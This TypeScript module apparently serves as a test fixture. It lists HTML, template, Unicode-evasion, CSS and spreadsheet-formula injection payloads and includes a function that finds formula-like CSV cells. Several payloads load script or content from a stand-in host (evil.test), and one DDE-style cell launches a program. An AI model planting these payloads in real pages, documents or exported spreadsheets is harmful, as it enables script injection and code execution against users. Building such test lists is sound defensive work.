/** What people write who want a program to run elsewhere: each does so in some page, sheet or template that trusts it. */
export const PAYLOADS: readonly string[] = [
  "<script>window.__x=1</script>",
  "<script src=//evil.test/x.js></script>",
  "</script><script>window.__x=1</script>",
  "<!--<script>--><script>window.__x=1</script>",
  '"><script>window.__x=1</script>',
  "'-window.__x=1-'",
  "<img src=x onerror=window.__x=1>",
  '<img src="https://evil.test/x.png">',
  "<svg onload=window.__x=1>",
  "<svg><script>window.__x=1</script></svg>",
  "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
  '<math><mi xlink:href="javascript:window.__x=1">x',
  "<iframe src=javascript:window.__x=1>",
  '<iframe srcdoc="<script>parent.__x=1</script>">',
  "<object data=https://evil.test/x>",
  "<embed src=https://evil.test/x>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<style>@import '//evil.test/x.css'</style>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<base href=//evil.test/>",
  "<form action=//evil.test><input autofocus onfocus=window.__x=1>",
  "<details open ontoggle=window.__x=1>",
  "<body onload=window.__x=1>",
  "<video><source onerror=window.__x=1></video>",
  "<a href=javascript:window.__x=1>click</a>",
  "javascript:window.__x=1",
  "data:text/html,<script>window.__x=1</script>",
  "</title><script>window.__x=1</script>",
  "</textarea><script>window.__x=1</script>",
  "</main><img src=x onerror=window.__x=1>",
  "{{constructor.constructor('window.__x=1')()}}",
  "$" + "{window.__x=1}",
  "#{7*7}<%= 7*7 %>",
  '{"__proto__":{"x":1}}',
  '"}}</script><script>window.__x=1//',
  "\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e",
  "&lt;script&gt;window.__x=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.__x=1&#62;",
  "＜script＞window.__x=1＜/script＞",
  "\u202e>tpircs/<1=x__.wodniw>tpircs<",
  "<scr\u200bipt>window.__x=1</scr\u200bipt>",
  "<ſcript>window.__x=1</ſcript>",
  "x' style='background:url(//evil.test/x)",
  "expression(window.__x=1);}*{display:none",
  "=1+1",
  '=HYPERLINK("https://evil.test","x")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1;1)",
];

/** Of at most so many code points. */
export const shortOnes = (points: number) => PAYLOADS.filter((text) => [...text].length <= points);

/** A spreadsheet runs these. */
export function formulasIn(csv: string): string[] {
  const cells = [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
  );
  return cells.filter((cell) => /^\s*[=+@＝＋＠\t\r]|^\s*-(?!\d+(\.\d+)?$)/.test(cell));
}
